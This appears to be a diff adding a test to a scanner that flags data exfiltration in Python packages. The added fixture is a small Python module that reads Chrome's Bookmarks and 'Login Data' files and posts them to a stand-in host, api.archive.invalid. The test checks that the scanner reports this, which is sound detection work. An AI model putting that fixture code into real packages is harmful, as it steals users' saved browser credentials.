@@ -1321,3 +1321,20 @@ test('a file in the home that PowerShell is told to send is sent; a report of th
   ]);
   expect(await inspect('exfiltration', send('report.txt'))).toEqual([]);
 });
+
+test.each([
+  ['~/.config/google-chrome/Default/Bookmarks', 'bookmarks of a browser'],
+  ['~/.config/google-chrome/Default/Login Data', 'browser or messenger profiles'],
+])('what was read of %s is called %s', async (path, name) => {
+  const file = wheel({
+    'pkg/__init__.py': '',
+    'pkg/save.py': python(
+      'import os, requests',
+      'def save():',
+      `    with open(os.path.expanduser('${path}')) as kept:`,
+      "        return requests.post('https://api.archive.invalid/save', data=kept.read()).json()",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ message: `Sends ${name} to api.archive.invalid.` }]);
+});
